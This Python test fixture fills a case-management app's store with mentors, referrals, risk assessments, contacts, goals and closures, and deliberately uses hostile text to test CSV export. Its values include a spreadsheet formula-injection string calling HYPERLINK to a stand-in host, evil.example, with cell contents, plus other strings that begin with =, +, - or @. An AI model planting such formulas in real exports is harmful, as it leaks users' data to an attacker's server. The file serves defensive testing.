"""A store that uses every feature of the case record, built only through the services (as the app would).

Its text is hostile on purpose: formulas, a phone starting with +, an apostrophe name, tabs and line breaks
in notes, scripts other than Latin, and one note longer than the CSV reader's default limit of 131,072.
"""
from __future__ import annotations

from datetime import date, datetime

from cpm_desktop.services import (
    access_requests,
    allocation,
    cases,
    closure,
    contacts,
    goals,
    letters,
    mentors,
    referrals,
    risk,
)
from cpm_desktop.services.mentors import MentorForm
from cpm_desktop.services.referrals import ReferralForm
from cpm_desktop.services.vocabulary import add_entry

TODAY = date(2019, 6, 1)
LONG_NOTE = "Talked about the week;\tslept better.\n" * 6_000  # 216,000 characters
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def use_every_feature(store) -> dict[str, str]:
    """Fill ``store``; returns the uuids of its main records by name."""
    with store.transaction() as session:
        add_entry(session, "area", "teesdale", "Teesdale")
        add_entry(session, "risk_flag", "dog_in_house", "Dog in the house")

    def mentor(**values) -> str:
        form = mentors.save_mentor(store, MentorForm(**values), today=TODAY)
        assert form.uuid
        return form.uuid

    ready = dict(status="active", dbs_checked_on=date(2016, 12, 1), safeguarding_completed_on=date(2017, 1, 5),
                 training_completed_on=date(2017, 1, 10), status_changed_on=date(2017, 1, 10))
    zoe = mentor(first_name="Zoë", last_name="Ælfric", gender="female", date_of_birth=date(1980, 1, 1),
                 phone="+44 7700 900123", email="zoe@example.org", area="teesdale", other_areas=("darlington",),
                 cohort="Cohort 7", lived_experience=("alcohol", "bereavement"), former_client=True, capacity=3,
                 availability="Weekday evenings\nnot Fridays", **ready)
    tom = mentor(first_name="Tom", last_name="'t Hooft", gender="male", area="darlington", cohort="-Cohort 8",
                 **ready)
    ann = mentor(first_name=FORMULA_NAME, last_name="@Lee", area="south", **ready)
    leaver = mentor(first_name="李", last_name="雷", area="north", **ready)
    mentors.save_mentor(store, MentorForm(**{**_mentor_form(store, tom), "status": "sabbatical",
                                             "status_reason": "Caring for a parent",
                                             "status_changed_on": date(2018, 3, 1)}), today=TODAY)
    mentors.save_mentor(store, MentorForm(**{**_mentor_form(store, tom), "status": "active", "status_reason": "",
                                             "status_changed_on": date(2018, 9, 1)}), today=TODAY)
    mentors.save_mentor(store, MentorForm(**{**_mentor_form(store, leaver), "status": "left",
                                             "left_reason": "new_job", "left_on": date(2018, 2, 1),
                                             "status_reason": "A new job in Leeds",
                                             "status_changed_on": date(2018, 2, 1)}), today=TODAY)
    for notes in ("First talk", "Second talk the same day: +2 clients"):
        mentors.add_progress_check(store, zoe, date(2018, 1, 1), notes=notes, checked_by="Coordinator Ann",
                                   today=TODAY)
    mentors.add_progress_check(store, tom, date(2018, 2, 1), today=TODAY)

    def referral(**values) -> ReferralForm:
        return referrals.save_referral(store, ReferralForm(**values), today=TODAY)

    ionut = referral(first_name="Ionuț", last_name="Păun", referred_on=date(2017, 3, 31),
                     date_of_birth=date(1970, 2, 28), gender="male", address="1 Rue <Main> & Co\nDarlington",
                     postcode="DL1 9ZZ", phone="+44 7700 900456", email="ionut@example.org", area="teesdale",
                     referrer_org="MIND", referrer_name="Dr O'Neil", referrer_email="oneil@example.org",
                     referrer_phone="01325 000000", crime_reference="-DU/123/17",
                     description='She said "no", then left\r\n=SUM(A1)', consent="written",
                     consent_on=date(2017, 3, 31), victim=True, perpetrator=True,
                     victim_crimes=("harassment_stalking", "criminal_damage"), perpetrator_crimes=("theft",),
                     vulnerabilities=("high_impact_user", "mental_health"))
    again = referral(first_name="Ionuț", last_name="Păun", referred_on=date(2018, 11, 2),
                     date_of_birth=date(1970, 2, 28), gender="male", area="south", referrer_org="mind",
                     person_uuid=ionut.person_uuid, description="\tReferred again")
    young = referral(first_name="Siobhán", last_name="Ó Briain", referred_on=date(2018, 7, 1),
                     date_of_birth=date(2001, 1, 1), gender="female", area="east", referrer_org="A new charity",
                     under_18_reason="Seventeen; the youth service asked us to work with her",
                     vulnerabilities=("alcohol",))
    assert ionut.referral_uuid and again.referral_uuid and young.referral_uuid
    r1, r2, r3 = ionut.referral_uuid, again.referral_uuid, young.referral_uuid

    # Decisions, a revised decision, closure and re-opening, a declined referral opened again.
    cases.record_decision(store, r1, "referred_on", "Mediation first", date(2017, 4, 15), today=TODAY)
    cases.record_decision(store, r1, "supported", "+ Home visit went well", date(2017, 4, 20), today=TODAY)
    cases.record_decision(store, r3, "declined_by_client", "Did not want support", date(2018, 7, 2), today=TODAY)
    cases.reopen_case(store, r3, "Asked again", on=date(2018, 8, 1))
    cases.record_decision(store, r3, "supported", "Ready now", date(2018, 8, 2), today=TODAY)
    cases.record_police_calls(store, r1, before=40, after=None, source="Durham command and control")

    # Risk: an assessment and a reassessment with checks and professionals, flags raised and cleared, visits.
    for kind, on, danger in (("initial", date(2017, 4, 10), "medium"), ("reassessment", date(2017, 10, 1), "low")):
        risk.add_assessment(store, r1, risk.Assessment(
            on, kind=kind, danger_to_staff=danger, will_to_change=True,
            want_to_change=None if kind == "initial" else True,
            capacity_to_change=False, notes="Calm; lives with <partner> & dog", assessed_by="Coordinator Ann",
            checks=(risk.Check("Police national computer", on, 'Two call-outs "domestic"'),
                    risk.Check("Adult social care", None, "")),
            professionals=(risk.Professional("PC Amble", "Durham Police", "Visit in pairs", on),)),
            today=TODAY)
    flag = risk.raise_flag(store, r1, "never_alone", date(2017, 4, 10), "=Visit in pairs")
    risk.clear_flag(store, flag, date(2018, 1, 1))
    risk.raise_flag(store, r1, "dog_in_house", date(2017, 4, 10))
    visit = risk.save_visit(store, r1, risk.Visit(date(2017, 4, 12), status="planned", visitors="Ann; PC Amble"))
    risk.save_visit(store, r1, risk.Visit(date(2017, 4, 12), status="done", visitors="Ann; PC Amble",
                                          joint_with_referrer=True, notes="Met at home", uuid=visit))
    risk.save_visit(store, r3, risk.Visit(date(2018, 7, 1), status="cancelled", notes="Not in"))

    # Allocations: a pair, one replaced (end reason), a single mentor with the reason.
    first = allocation.allocate(store, r1, [zoe, tom], date(2017, 5, 1))
    allocation.replace_mentor(store, first[1], ann, date(2017, 9, 1), "Tom's sabbatical coming")
    allocation.allocate(store, r3, [zoe], date(2018, 8, 3), single_reason="Client asked for one mentor")

    # The contact log: entries by mentors and staff, corrected twice, one deleted, one very long.
    c0 = contacts.add_contact(store, r1, occurred_at=datetime(2017, 5, 2, 10, 30), activity="home_visit",
                              minutes=60, mentor_uuid=zoe, notes="First visit\n+tea")
    contacts.add_contact(store, r1, occurred_at=datetime(2017, 5, 3, 9, 0), activity="telephone",
                         minutes=None, staff_name="Coordinator <Ann>", notes=LONG_NOTE)
    gone = contacts.add_contact(store, r1, occurred_at=datetime(2017, 5, 4, 9, 0), activity="telephone",
                                minutes=5, notes="Logged by mistake")
    contacts.add_contact(store, r3, occurred_at=datetime(2018, 8, 4, 11, 0), activity="home_visit", minutes=45,
                         mentor_uuid=zoe, notes="@home")
    uuid_of = {row.contact_id: row.uuid for row in contacts.list_contacts(store, r1)}
    contacts.edit_contact(store, uuid_of[c0], occurred_at=datetime(2017, 5, 2, 10, 30), activity="home_visit",
                          minutes=50, notes="Corrected once", mentor_uuid=None, staff_name="Coordinator Ann")
    contacts.edit_contact(store, uuid_of[c0], occurred_at=datetime(2017, 5, 2, 11, 0), activity="home_visit",
                          minutes=55, notes="Corrected twice", mentor_uuid=zoe)
    contacts.delete_contact(store, uuid_of[gone], "Logged on the wrong case")

    # Goals: set, reviewed twice on one day, another achieved.
    goals.set_goal(store, r1, goal="Feel safe <at home>", reality="Calls 999 & worries", options="Neighbour\nmediation",
                   way_forward="Join a club", commitment=7, set_on=date(2017, 5, 2), today=TODAY)
    goals.set_goal(store, r1, goal="-5 kg by summer", set_on=date(2017, 5, 2), today=TODAY)
    goal_uuid = {g.goal: g.uuid for g in goals.goals(store, r1)}
    goals.review_goal(store, goal_uuid["Feel safe <at home>"], status="ongoing", commitment=8,
                      notes="Sleeps better", reviewed_on=date(2017, 9, 1), today=TODAY)
    goals.review_goal(store, goal_uuid["Feel safe <at home>"], status="achieved", commitment=9,
                      notes="Feels safe", reviewed_on=date(2017, 9, 1), today=TODAY)
    goals.review_goal(store, goal_uuid["-5 kg by summer"], status="withdrawn", reviewed_on=date(2017, 9, 2),
                      today=TODAY)

    # The case closes, feedback goes to the referrer, it is re-opened, and the first referral closes for good.
    closure.close_case(store, r1, date(2018, 4, 1), "Goals met; =thanks", calls_after=3, today=TODAY)
    letters.mark_feedback_sent(store, ionut.referral_id, on=date(2018, 4, 10))
    cases.reopen_case(store, r1, "Asked for help again", on=date(2018, 5, 1))
    closure.close_case(store, r1, date(2018, 10, 1), "Moved away", today=TODAY)

    # Subject-access requests: a client's, paused, extended and completed; a mentor's, just received.
    request = access_requests.register_request(store, "person", ionut.person_id, date(2019, 1, 31), notes="By letter")
    access_requests.pause_request(store, request, date(2019, 2, 1), date(2019, 2, 8))
    access_requests.update_request(store, request, identity_checked_on=date(2019, 2, 8), extension_months=1,
                        extension_reason="Many records", completed_on=date(2019, 3, 20))
    access_requests.register_request(store, "mentor", _mentor_form(store, zoe)["mentor_id"], date(2019, 5, 1))
    return {"r1": r1, "r2": r2, "r3": r3, "zoe": zoe, "tom": tom, "ann": ann, "leaver": leaver}


def _mentor_form(store, mentor_uuid: str) -> dict:
    form = mentors.load_mentor(store, mentor_uuid)
    return {name: getattr(form, name) for name in form.__dataclass_fields__}
